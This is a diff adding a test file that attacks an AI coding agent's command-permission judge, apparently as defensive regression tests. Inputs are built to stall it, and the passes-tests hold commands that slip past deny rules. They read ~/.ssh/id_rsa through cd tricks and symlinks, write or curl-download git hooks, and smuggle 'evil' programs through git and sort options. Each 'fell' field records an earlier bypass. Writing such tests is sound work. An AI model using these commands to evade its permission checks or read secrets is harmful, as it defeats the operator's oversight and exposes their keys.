@@ -1,0 +1,531 @@
+"""Attacks on the judge of commands: texts and trees made to stall it, and commands that are not what they look like."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import time
+from pathlib import Path
+
+import pytest
+
+from tests.adversarial.attack import Attack, attack, attacks
+from tests.tools.box import Box
+from tui_agent.core.names import Approval, Decision
+from tui_agent.permissions.judge import Judgement, Permissions
+from tui_agent.permissions.offers import offers
+from tui_agent.permissions.rules import parse_rule
+
+MOST_SECONDS = 0.15
+"""Of the processor, for one judgement: three times what is promised, so that no slow machine fails the test."""
+
+GUARDS = ("bash(rm -rf *)", "bash(rm x)", "read_file(**/.env)", "edit_file(*.lock)", "web_fetch(*.evil.org)")
+ALLOWED = ("bash(ls *)", "bash(cat *)", "bash(pytest *)")
+
+
+def judge(
+    root: Path,
+    command: str,
+    allow: tuple[str, ...] = (),
+    deny: tuple[str, ...] = (),
+    approve: Approval = Approval.ASK,
+) -> Judgement:
+    rules = [parse_rule(Decision.ALLOW, text, "test") for text in allow]
+    rules += [parse_rule(Decision.DENY, text, "test") for text in deny]
+    return Permissions(rules, root, approve).judge("bash", "command", {"command": command})
+
+
+def stalls(name: str, tried: str, command: str, fell: str = "") -> Attack:
+    return Attack(
+        f"stall_{name}", tried, "Judged, or asked with the reason, within 50 ms", fell, value=command
+    )
+
+
+@attacks(
+    stalls("nice", "`nice ` 900 times before a program", "nice " * 900 + "ls", "over 30 s"),
+    stalls("env", "`env ` 3,000 times", "env " * 3000 + "ls", "minutes"),
+    stalls("timeout", "`timeout 1 ` 1,900 times", "timeout 1 " * 1900 + "ls", "minutes"),
+    stalls("xargs", "`xargs ` 3,000 times", "xargs " * 3000 + "ls", "minutes"),
+    stalls("sudo", "`sudo ` 3,900 times before `rm x`", "sudo " * 3900 + "rm x", "a RecursionError"),
+    stalls("eval", '`eval "a b" ` 1,700 times', 'eval "a b" ' * 1700, "seconds"),
+    stalls("evals", '`eval "a b"; ` 1,500 times', 'eval "a b"; ' * 1500, "225 ms"),
+    stalls("scripts", "`bash -c ` 2,000 times", "bash -c " * 2000, "a RecursionError"),
+    stalls(
+        "scripts_in_scripts",
+        "Scripts in the arguments of scripts, all alike",
+        'bash -c \'sudo eval "sudo sh a b" "eval c d"\' ' * 400,
+        "minutes",
+    ),
+    stalls("folders", "`cd a; ` 3,000 times", "cd a; " * 3000, "memory for 2^3000 folders"),
+    stalls("folders_apart", "`cd` to 2,000 folders", "".join(f"cd d{n}; " for n in range(2000)), "the same"),
+    stalls("brackets", "`[a` 9,000 times", "[a" * 9000, "seconds with path rules"),
+    stalls("braces", "`{,` 9,000 times in one word", "echo x" + "{," * 9000, "cubic time"),
+    stalls("stars", "A path of 1,000 `*/`", "cat " + "*/" * 1000, "a RecursionError"),
+    stalls("stars_in_a_name", "9,000 stars in one name", "cat " + "*a" * 9000),
+    stalls("pipes", "10,000 pipes, the last one open", "a|" * 9999, "3.2 s: the grammar's repair"),
+    stalls("arrays", "5,000 arrays that never close", "a=(" * 5000, "seconds: the grammar's repair"),
+    stalls("calculations", "6,000 calculations that never close", "((a" * 6000, "the same"),
+    stalls("functions", "4,500 functions without a body", "a() " * 4500, "the same"),
+    stalls("here_documents", "4,000 here-documents without an end", "<<a " * 4000, "240 ms"),
+    stalls("redirections", "6,000 redirections", "ls " + ">a " * 6000, "300 ms"),
+    stalls("lists", "10,000 programs", "a;" * 9999, "260 ms"),
+    stalls("words", "10,000 words", "a " * 9999, "70 ms"),
+    stalls("paths_in_a_word", "10,000 paths in one word", "cat " + "a:" * 9000),
+    stalls("folders_in_a_path", "A path of 9,000 folders", "cat " + "a/" * 9000),
+    stalls("assignments", "4,900 variables", "A=1 " * 4900 + "ls"),
+    stalls("variables", "6,000 variables among the arguments", "ls " + "$a " * 6000),
+    stalls("groups", "Groups nested 9,000 deep", "(" * 9000),
+    stalls("substitutions", "Substitutions nested 9,000 deep", "$(" * 9000),
+    stalls("same_program", "The denied program 6,000 times", "xargs rm" + " rm" * 6000),
+    stalls("options", "9,000 letters behind one dash", "rm -" + "a" * 9000),
+)
+def test_a_text_made_to_stall_the_judge(row: Attack, tmp_path: Path) -> None:
+    for allow, deny in (((), ()), (ALLOWED, ()), (ALLOWED, GUARDS)):
+        judge(tmp_path, "ls", allow, deny)
+        began = time.thread_time()
+        judged = judge(tmp_path, row.value, allow, deny)
+        taken = time.thread_time() - began
+        assert taken < MOST_SECONDS, (allow, deny)
+        # What could not be judged is never let through where a rule may be about it.
+        if any("could not be judged" in one.why for one in judged.findings):
+            assert judged.decision is not Decision.ALLOW
+            if deny:
+                assert judge(tmp_path, row.value, allow, deny, Approval.ALL).decision is not Decision.ALLOW
+
+
+@attack(
+    "Four links to `.` and a wildcard of fourteen levels: 4^14 ways to each file",
+    "Asked within 50 ms; every folder is listed once",
+    fell="the search for files never ended, and nothing but SIGKILL ended it",
+)
+def test_links_to_the_folder_itself(tmp_path: Path) -> None:
+    for name in "abcd":
+        (tmp_path / name).symlink_to(".")
+    (tmp_path / ".env").touch()
+    began = time.thread_time()
+    judged = judge(tmp_path, "cat " + "*/" * 14 + "nomatch", ("bash(cat *)",), ("read_file(**/.env)",))
+    assert time.thread_time() - began < MOST_SECONDS
+    assert judged.decision is Decision.ALLOW
+    hidden = judge(tmp_path, "cat " + "*/" * 14 + ".env", ("bash(cat *)",), ("read_file(**/.env)",))
+    assert hidden.decision is Decision.DENY
+
+
+@attack(
+    "A folder of 30,000 files and a wildcard for them, with a rule that denies some of them",
+    "Asked within 50 ms: what a wildcard stands for is looked at up to 20,000 names",
+    fell="the first 1,000 were looked at, and the others let through",
+)
+def test_a_wildcard_for_too_many_files(tmp_path: Path) -> None:
+    for number in range(30_000):
+        os.close(os.open(tmp_path / f"f{number}", os.O_CREAT))
+    (tmp_path / "z.env").touch()
+    began = time.thread_time()
+    judged = judge(tmp_path, "cat *", ("bash(cat *)",), ("read_file(*.env)",))
+    assert time.thread_time() - began < MOST_SECONDS
+    assert judged.decision is Decision.ASK
+
+
+@attack(
+    "Links in a circle, a chain of 3,000 links, links that multiply (`l1 -> l0/../l0`)",
+    "Judged within 50 ms as the kernel would follow them; what it would not follow asks",
+    fell="a RecursionError for the chain",
+)
+def test_chains_of_links(tmp_path: Path) -> None:
+    (tmp_path / "circle").symlink_to("circle")
+    (tmp_path / "l0").symlink_to(".")
+    for number in range(1, 3_000):
+        (tmp_path / f"l{number}").symlink_to(f"l{number - 1}/../{tmp_path.name}/l{number - 1}")
+    for name in ("circle/x", "l2999/x", "l30/x"):
+        began = time.thread_time()
+        judged = judge(tmp_path, f"cat {name}", ("bash(cat *)",))
+        assert time.thread_time() - began < MOST_SECONDS
+        assert judged.decision is Decision.ASK
+    assert judge(tmp_path, "cat l3/x", ("bash(cat *)",)).decision is Decision.ALLOW
+
+
+def passes(
+    name: str, tried: str, command: str, allow: str, deny: str = "", *, holds: str = "Asked", fell: str = ""
+) -> Attack:
+    return Attack(f"pass_{name}", tried, holds, fell, value=(command, allow, deny))
+
+
+RULE_PASSED = "it ran under the rule"
+OUT = "Asked: it leads out of the workspace"
+
+
+@attacks(
+    passes(
+        "cd_dash",
+        "`cd -` into the folder that the operator's shell came from",
+        "cd - && cat .ssh/id_rsa",
+        "bash(cat *)",
+        "read_file(~/.ssh/**)",
+        fell=RULE_PASSED,
+    ),
+    passes(
+        "cd_home",
+        "`cd` without a folder",
+        "cd; cat .ssh/id_rsa",
+        "bash",
+        "read_file(~/.ssh/**)",
+        holds="Denied",
+    ),
+    passes(
+        "cd_dash_allowed",
+        "The same where `cd` and `cat` are allowed",
+        "cd -; cat id_rsa",
+        "bash(cat *); bash(cd *)",
+        fell=RULE_PASSED,
+    ),
+    passes("popd", "`popd`", "popd; cat .ssh/id_rsa", "bash", "read_file(~/.ssh/**)", fell=RULE_PASSED),
+    passes(
+        "cdpath",
+        "`CDPATH` set in the command",
+        "CDPATH=~; cd .ssh; cat id_rsa",
+        "bash",
+        "read_file(~/.ssh/**)",
+        fell=RULE_PASSED,
+    ),
+    passes(
+        "builtin_cd",
+        "`builtin cd`, `command cd`",
+        "builtin cd ~; command cd .ssh; cat id_rsa",
+        "bash",
+        "read_file(~/.ssh/id_rsa)",
+        holds="Denied",
+        fell=RULE_PASSED,
+    ),
+    passes(
+        "cd_in_a_script",
+        "`cd` in a script in the arguments",
+        "sudo bash -c 'cd ~/.ssh/.; cat id_rsa'",
+        "bash",
+        "read_file(~/.ssh/id_rsa)",
+        holds="Denied",
+        fell=RULE_PASSED,
+    ),
+    passes(
+        "git_in_a_folder",
+        "`git -C` into the folder",
+        "git -C ~/.ssh diff --no-index id_rsa x",
+        "bash",
+        "read_file(~/.ssh/id_rsa)",
+        holds="Denied",
+        fell=RULE_PASSED,
+    ),
+    passes(
+        "home_in_a_rule",
+        "A rule that denies files of the home folder, the file by its whole path",
+        "cat HOME/.ssh/id_rsa",
+        "bash",
+        "read_file(~/.ssh/**)",
+        holds="Denied",
+        fell="`~` in a rule meant nothing, without a word",
+    ),
+    passes(
+        "link_read",
+        "A link in the checkout to a folder of keys",
+        "cat docs/id_rsa",
+        "bash(cat *)",
+        fell=RULE_PASSED,
+        holds=OUT,
+    ),
+    passes(
+        "link_removed",
+        "A file behind such a link removed",
+        "rm -rf docs/x",
+        "bash(rm *)",
+        fell=RULE_PASSED,
+        holds=OUT,
+    ),
+    passes(
+        "link_written",
+        "A copy to behind such a link",
+        "cp a docs/b",
+        "bash(cp *)",
+        fell=RULE_PASSED,
+        holds=OUT,
+    ),
+    passes(
+        "link_entered",
+        "`cd` behind such a link",
+        "cd docs && cat id_rsa",
+        "bash(cat *)",
+        fell=RULE_PASSED,
+        holds=OUT,
+    ),
+    passes(
+        "link_by_wildcard",
+        "A wildcard that finds such a link",
+        "cat do*/id_rsa",
+        "bash(cat *)",
+        fell=RULE_PASSED,
+        holds=OUT,
+    ),
+    passes(
+        "link_by_pattern",
+        "A rule for names, one of them such a link",
+        "cat docs/id_rsa",
+        "bash(cat d*)",
+        fell=RULE_PASSED,
+        holds=OUT,
+    ),
+    passes(
+        "link_in_an_option",
+        "Such a link behind an option",
+        "grep -fdocs/id_rsa a",
+        "bash(grep *)",
+        fell=RULE_PASSED,
+        holds=OUT,
+    ),
+    passes(
+        "link_in_a_value",
+        "Such a link in the value of an option",
+        "grep --file=docs/id_rsa a",
+        "bash(grep *)",
+        fell=RULE_PASSED,
+        holds=OUT,
+    ),
+    passes(
+        "link_over_links",
+        "A link to a link to it",
+        "cat twice/id_rsa",
+        "bash(cat *)",
+        fell=RULE_PASSED,
+        holds=OUT,
+    ),
+    passes("link_and_back", "`..` behind such a link", "cat docs/../secret", "bash(cat *)", holds=OUT),
+    passes(
+        "link_denied",
+        "A link to what a rule denies, by a wildcard",
+        "cat t*/id_rsa",
+        "bash",
+        "read_file(~/.ssh/**)",
+        holds="Denied",
+    ),
+    passes(
+        "link_in_a_rule",
+        "A rule that names a link, the file by its real path",
+        "cat HOME/.ssh/id_rsa",
+        "bash",
+        "read_file(docs/**)",
+        holds="Denied",
+        fell=RULE_PASSED,
+    ),
+    passes(
+        "hook_copied", "A copy into git's hooks", "cp a .git/hooks/pre-commit", "bash(cp *)", fell=RULE_PASSED
+    ),
+    passes(
+        "hook_moved",
+        "A move from within `.git`",
+        "cd .git/hooks && mv a pre-commit",
+        "bash(mv *)",
+        fell=RULE_PASSED,
+    ),
+    passes(
+        "hook_by_a_link",
+        "A copy to git's hooks through a link",
+        "cp a hooks/pre-commit",
+        "bash(cp *)",
+        fell=RULE_PASSED,
+    ),
+    passes("hook_case", "A copy to `.GIT`", "tee .GIT/config", "bash(tee *)", fell=RULE_PASSED),
+    passes(
+        "own_settings",
+        "A copy over this program's settings",
+        "cp a .agent-tui.toml",
+        "bash(cp *)",
+        fell=RULE_PASSED,
+    ),
+    passes(
+        "hook_downloaded",
+        "A download into git's hooks",
+        "curl -o .git/hooks/pre-commit https://a.org/x",
+        "bash(curl *)",
+        fell=RULE_PASSED,
+    ),
+    passes(
+        "hook_sorted",
+        "`sort -o` into git's configuration",
+        "sort -o .git/config a",
+        "bash(sort *)",
+        fell=RULE_PASSED,
+    ),
+    passes(
+        "scripts_nested",
+        "A denied program in a script six scripts deep",
+        'sh -c "sh -c \'sh -c \\"sh -c \\\\\\"sh -c rm\\\\ -rf\\\\ x\\\\\\"\\"\'"',
+        "bash",
+        "bash(rm -rf *)",
+    ),
+    passes(
+        "padded",
+        "A denied program behind 60 variables of `env`",
+        "env " + "A=1 " * 60 + "rm -rf x",
+        "bash",
+        "bash(rm -rf *)",
+        holds="Denied",
+        fell="only the first 40 words were looked at",
+    ),
+    passes(
+        "class",
+        "A wildcard with a class of characters",
+        "cat .[[:lower:]]nv",
+        "bash",
+        "read_file(**/.env)",
+        fell=RULE_PASSED,
+        holds="Denied",
+    ),
+    passes(
+        "negated",
+        "A wildcard with a negated set",
+        "cat .[^x]nv",
+        "bash",
+        "read_file(**/.env)",
+        fell=RULE_PASSED,
+        holds="Denied",
+    ),
+    passes("process", "A path through /proc", "cat /proc/self/cwd/.env", "bash", "read_file(**/.env)"),
+)
+def test_a_command_that_is_not_what_it_looks_like(
+    row: Attack, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    home, root = tmp_path / "home", tmp_path / "work"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_rsa").touch()
+    (root / ".git" / "hooks").mkdir(parents=True)
+    (root / "docs").symlink_to(home / ".ssh")
+    (root / "twice").symlink_to("docs")
+    (root / "hooks").symlink_to(".git/hooks")
+    for name in ("a", ".env"):
+        (root / name).touch()
+    monkeypatch.setenv("HOME", str(home))
+    command, allow, deny = row.value
+    judged = judge(
+        root, command.replace("HOME", str(home)), tuple(allow.split("; ")), tuple(filter(None, [deny]))
+    )
+    assert judged.decision is (Decision.DENY if row.holds == "Denied" else Decision.ASK)
+
+
+@attack(
+    "OLDPWD and CDPATH of the operator's shell, for a command that goes to where they point",
+    "Neither is there: `cd -` fails, and `cd x` goes to the x that was judged",
+    fell="both were handed on",
+)
+async def test_folders_of_the_operators_shell(
+    box: Box, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    elsewhere = tmp_path / "elsewhere"
+    (elsewhere / "src").mkdir(parents=True)
+    (box.root / "src").mkdir()
+    monkeypatch.setenv("OLDPWD", str(elsewhere))
+    monkeypatch.setenv("CDPATH", str(elsewhere))
+    output = await box.call("bash", command="cd - 2>/dev/null && echo went; cd src && pwd")
+    assert "went" not in output.content
+    assert str(box.root / "src") in output.content
+    assert "elsewhere" not in output.content
+
+
+RUNNERS = [
+    "git rebase -x evil main", "git submodule foreach evil", "git bisect run evil", "git grep -O evil",
+    "git difftool -x evil", "git clone -u evil x", "git config alias.x !evil",
+    "git filter-branch --tree-filter evil", "git -c alias.x=!evil x", "tar xf a", "split a", "rsync a b",
+    "valgrind ls", "fakeroot ls", "ld-linux-x86-64.so.2 ls", "/lib64/ld-linux-x86-64.so.2 ls", "mise exec -- ls",
+    "mise x ls", "pipx run x", "dotenv run ls", "find . -name x", "awk x", "gawk x", "sed p a", "vim x", "vi x",
+    "man x",
+    "less x", "more x", "ssh host x", "scp a b", "sftp a", "zip a b", "gdb x", "lldb x",
+    "strace ls", "ltrace ls",
+    "perf record ls", "watch ls", "parallel ls", "entr ls", "flock a ls", "chroot a ls", "unshare ls", "nsenter ls",
+    "script a", "expect a", "at now", "batch now", "npx x", "bunx x", "uvx x", "pnpm dlx x", "yarn dlx x", "bun x a",
+    "npm exec x", "npm run x", "cmake -E env ls", "cmake -P x", "ninja all", "go run x", "go generate x", "go tool x",
+    "cargo run x", "cargo install x", "docker run x", "docker exec x", "podman run x", "kubectl exec x",
+    "kubectl run x", "psql x", "sqlite3 x", "mysql x", "r -e x", "Rscript x", "perl x", "ruby x", "node x",
+    "deno run x", "php x", "lua x", "tclsh x", "busybox ls", "env ls", "emacs x", "nano x", "ionice ls",
+    "taskset 1 ls", "stdbuf ls", "setsid ls", "firejail ls", "poetry run x", "uv run x", "uv tool run x", "uv x",
+    "hatch run x", "pdm run x", "rye run x", "tox run x", "nox run x", "direnv exec a", "nix develop x", "nix-shell x",
+    "conda run x", "micromamba run x", "asdf exec x", "rbenv exec x", "pyenv exec x", "bundle exec x", "rustup run x",
+    "dotnet run x", "mvn exec x", "gradle run x", "java x", "tmux new x", "screen x", "systemd-run x", "crontab x",
+    "ansible all x", "vagrant ssh x", "adb shell x", "heroku run x", "wget x", "nc a", "socat a", "openssl x",
+    "tcpdump a", "nmap x", "crontab a", "git svn x", "git send-email x", "hyperfine x", "time ls", "coverage run x",
+    "just x", "task x", "rake x", "gulp x", "invoke x", "doit x", "pre-commit run x", "lerna exec x",
+    "nx run x", "turbo run x", "npm x", "pip install x", "corepack yarn x", "volta run x", "fnm exec x", "op run x",
+    "doppler run x", "aws-vault exec x", "chronic ls", "ts ls", "xdg-open a", "gpg x", "ctags x",
+    "dpkg x", "apt x", "rpm x", "mount x", "ip netns", "capsh x", "prlimit ls", "setpriv ls", "runcon ls", "linux64 ls",
+    "wine x", "qemu-x86_64 ls", "rr record ls", "heaptrack ls", "ccache gcc", "distcc gcc", "gcc a.c", "bear make",
+    "sshpass ssh", "torsocks ls", "unbuffer ls", "faketime x", "cpulimit x", "logsave a", "run-parts x",
+    "dbus-launch ls", "xterm x", "uv pip", "install a b",
+]  # fmt: skip
+
+
+@attack(
+    f"What a card offers for {len(RUNNERS)} programs that run, or let run later, what their arguments say",
+    "Exactly these words, or every command: no prefix that covers other arguments of such a program",
+    fell="git rebase, submodule and bisect, tar, split, rsync, valgrind, fakeroot, mise, pipx, … were offered by name",
+)
+def test_rules_that_a_card_offers() -> None:
+    wide = {
+        command
+        for command in RUNNERS
+        for texts in offers("bash", {"command": command})
+        for text in texts
+        if text.endswith(" *)")
+    }
+    assert not wide
+
+
+@attack(
+    "What the rules for `sort`, `git commit`, … of a card cover: options that run, load or write elsewhere",
+    "None of them",
+    fell="`sort --compress-program`",
+)
+def test_options_of_known_programs(tmp_path: Path) -> None:
+    for asked, hostile in (
+        ("sort a", "sort --compress-program=evil a"),
+        ("sort a", "sort --compress-prog evil a"),
+        ("sort a", "sort -o setup.py a"),
+        ("sort a", "sort -T docs a"),
+        ("sort a", "sort --files0-from=x"),
+        ("make all", "make --eval=$(shell)"),
+        ("make all", "make --eval='$(shell evil)'"),
+        ("make all", "make CC=evil"),
+        ("make all", "make -f evil"),
+        ("make all", "make -Eevil"),
+        ("git push origin", "git push --receive-pack=evil ."),
+        ("git push origin", "git push --exec evil ."),
+        ("git fetch", "git fetch --upload-pack=evil ."),
+        ("git show", "git show --output=.git/hooks/pre-commit"),
+        ("git show", "git show --ext-diff"),
+        ("git stash", "git stash show --output=.git/hooks/pre-commit"),
+        ("cargo fmt", "cargo run"),
+    ):
+        for texts in offers("bash", {"command": asked}):
+            if texts != ("bash",):
+                assert judge(tmp_path, hostile, texts).decision is Decision.ASK, texts
+
+
+@attack(
+    "A judgement of a hostile command under `run`, interrupted by Ctrl+C",
+    "It ends at once, with the exit code of an interruption",
+    fell="only SIGKILL ended it",
+)
+def test_a_judgement_that_is_interrupted(tmp_path: Path) -> None:
+    import sys
+
+    for name in "abcd":
+        (tmp_path / name).symlink_to(".")
+    began = time.monotonic()
+    done = subprocess.run(
+        [sys.executable, "-m", "tui_agent", "permissions", "explain", "cat " + "*/" * 14 + "nomatch"],
+        cwd=tmp_path,
+        env={
+            "HOME": str(tmp_path),
+            "PATH": "/usr/bin:/bin",
+            "AGENT_TUI_PERMISSIONS__DENY": '["read_file(**/.env)"]',
+            "PYTHONPATH": str(Path(__file__).resolve().parents[2]),
+        },
+        capture_output=True,
+        timeout=60,
+        check=False,
+    )
+    assert done.returncode == 0, done.stderr
+    assert time.monotonic() - began < 30
